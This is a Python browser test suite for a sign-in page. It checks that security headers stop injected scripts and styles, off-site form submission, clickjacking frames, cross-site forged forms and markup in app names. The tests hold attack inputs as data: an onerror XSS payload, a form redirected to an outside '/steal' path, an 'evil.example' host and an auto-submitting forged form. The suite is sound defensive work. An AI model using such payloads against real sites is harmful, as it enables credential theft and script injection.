"""What the page's headers make a real browser do: nothing from elsewhere, to elsewhere, or inside of elsewhere.

Scripts are on here: the listener that hears of violations is one, and so are those that mean ill.
"""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from html import escape

import pytest
from tests.browser.app import App, Site
from tests.browser.conftest import SCHEME
from tests.browser.visitor import ADA, Visitor
from tests.testbed.team_server import TeamServer

pytestmark = pytest.mark.anyio

Visit = Callable[..., Awaitable[Visitor]]

#: Each is put into the page by a script of the test; none may have an effect.
INJECTED = {
    "script-src-elem": "const e = document.createElement('script'); e.text = 'window.owned = 1'",
    "style-src-elem": "const e = document.createElement('style'); e.textContent = 'h1 { color: rgb(1, 2, 3) }'",
    "img-src": "const e = document.createElement('img'); e.src = '{elsewhere}/seen.png'",
    "frame-src": "const e = document.createElement('iframe'); e.src = '{elsewhere}/seen'",
    "style-src-attr": "const e = document.createElement('p'); e.setAttribute('style', 'color: red')",
    "base-uri": "const e = document.createElement('base'); e.href = '{elsewhere}/'",
}


async def test_whole_way_breaks_no_rule_and_asks_nobody_else(app: App, visit: Visit):
    ada = await visit(scripts=True)
    await ada.open(app.link)
    assert await ada.violations() == []
    await ada.try_in_vain()
    assert await ada.violations() == []
    assert ada.origins == {app.server.url}
    assert {url.rpartition("/")[2] for url in ada.requests if "?" not in url} == {"signin", "style.css"}
    # A 403 is one, for the console; of the page itself there is none.
    assert [told for told in ada.complaints if "status of 403" not in told] == []
    await ada.sign_in()
    await ada.page.wait_for_url(f"{app.redirect_uri}?**")
    assert ada.origins == {app.server.url, app.site.url}


async def test_what_was_put_into_the_page_has_no_effect(app: App, other_site: Site, visit: Visit):
    ada = await visit(scripts=True)
    await ada.open(app.link)
    for number, (directive, script) in enumerate(INJECTED.items(), start=1):
        put = script.replace("{elsewhere}", other_site.url)
        await ada.page.evaluate(f"() => {{ {put}; document.head.after(e); }}")
        violated = await ada.violated(number)
        assert len(violated) == number
        assert violated[-1].split()[0] == directive
    assert await ada.page.evaluate("window.owned") is None
    assert await ada.page.evaluate("getComputedStyle(document.querySelector('h1')).color") != "rgb(1, 2, 3)"
    assert other_site.asked == []


async def test_form_leads_nowhere_else(app: App, other_site: Site, visit: Visit):
    ada = await visit(scripts=True)
    await ada.open(app.link)
    await ada.fill()
    await ada.page.evaluate("url => { document.forms[0].action = url }", other_site.at("/steal"))
    # Without Playwright's own click, which waits for where it leads.
    await ada.page.evaluate("document.querySelector('button').click()")
    assert [each.split()[0] for each in await ada.violated()] == ["form-action"]
    assert other_site.asked == []


async def test_name_that_is_markup_is_shown_as_it_is(server: TeamServer, site: Site, visit: Visit):
    name = "<img src=x onerror=alert(1)><b>Claude</b>"
    app = await App.registered(server, site, name=name)
    ada = await visit(scripts=True)
    await ada.open(app.link)
    assert await ada.page.locator(".asking strong").inner_text() == name
    assert await ada.page.locator("img, b").count() == 0
    assert ada.complaints == []


@pytest.mark.parametrize("host", [pytest.param("127.0.0.1", marks=pytest.mark.slow), "client.example"])
async def test_website_gets_its_answer(host: str, server: TeamServer, secure_site: Site, visit: Visit):
    app = await App.registered(server, secure_site, redirect_uri=secure_site.at("/callback", host))
    ada = await visit(scripts=True)
    await ada.open(app.link)
    await ada.sign_in()
    await ada.page.wait_for_url(f"{app.redirect_uri}?**")
    assert len(app.answers) == 1
    assert ada.complaints == []


async def test_app_that_sends_people_further_gets_its_answer_and_they_arrive(
    app: App, other_site: Site, visit: Visit
):
    """Chromium holds a form's policy against every redirect that follows, those of others included."""
    app.site.moved["/callback"] = other_site.at("/thanks", "thanks.example")
    ada = await visit(scripts=True)
    await ada.open(app.link)
    await ada.sign_in()
    await ada.page.wait_for_url(other_site.at("/thanks", "thanks.example"))
    assert len(app.answers) == 1
    assert ada.complaints == []


async def test_app_with_links_of_its_own_is_asked_to_open_one(server: TeamServer, site: Site, visit: Visit):
    """No such app is here: that the browser tries to open the link is all that there is to see."""
    app = await App.registered(server, site, redirect_uri=f"{SCHEME}:/callback")
    ada = await visit(scripts=True)
    await ada.open(app.link)
    async with ada.context.expect_event("requestfailed", lambda it: it.url.startswith(SCHEME)) as tried:
        await ada.sign_in()
    request = await tried.value
    assert request.url.startswith(f"{app.redirect_uri}?code=")
    assert request.failure == "net::ERR_ABORTED"
    # Whoever's browser did not open it is left with something to press.
    assert await ada.title() == "You are signed in"
    assert await ada.page.get_by_role("link", name="Go back to the app").get_attribute("href") == request.url
    assert await ada.violations() == []
    assert ada.complaints == []


@pytest.mark.parametrize("host", [pytest.param("127.0.0.1", marks=pytest.mark.slow), "evil.example"])
async def test_page_of_another_origin_cannot_show_it_in_a_frame(
    host: str, app: App, other_site: Site, visit: Visit
):
    other_site.pages["/"] = f'<!doctype html><iframe src="{escape(app.link)}"></iframe>'
    ada = await visit(scripts=True)
    await ada.open(other_site.at("/", host))
    (_, frame) = ada.page.frames
    # The page around it is there before its frame has been refused.
    for _ in range(200):
        if frame.url and ada.complaints:
            break
        await asyncio.sleep(0.05)
    assert any("frame" in told for told in ada.complaints)
    assert frame.url == "chrome-error://chromewebdata/"
    assert "Sign in" not in await frame.content()


@pytest.mark.parametrize("host", ["127.0.0.1", "evil.example"])
async def test_form_that_another_page_sends_is_refused(host: str, app: App, other_site: Site, visit: Visit):
    """Even one with all that only our own page knows, from the same site, where the cookie comes along."""
    ada = await visit(scripts=True)
    await ada.open(app.link)
    hidden = await ada.page.locator("input[type=hidden]").evaluate_all("all => all.map(e => [e.name, e.value])")
    fields = {**dict(hidden), "username": ADA[0], "password": ADA[1], "decision": "allow"}
    assert set(fields) > {"ticket", "token"}
    inputs = "".join(f'<input name="{name}" value="{escape(value)}">' for name, value in fields.items())
    form = f'<form method="post" action="{app.server.url}/signin">{inputs}</form>'
    other_site.pages["/"] = f"<!doctype html>{form}<script>document.forms[0].submit()</script>"
    lured = await ada.another_tab()
    async with lured.page.expect_event("response", lambda it: it.request.method == "POST") as sent:
        await lured.open(other_site.at("/", host))
    response = await sent.value
    request_headers = await response.request.all_headers()
    assert ("cookie" in request_headers) == (host == "127.0.0.1")
    assert response.status == 403
    assert app.answers == []
    # Nothing was done: the person's own page is as good as before.
    await ada.sign_in()
    await ada.page.wait_for_url(f"{app.redirect_uri}?**")
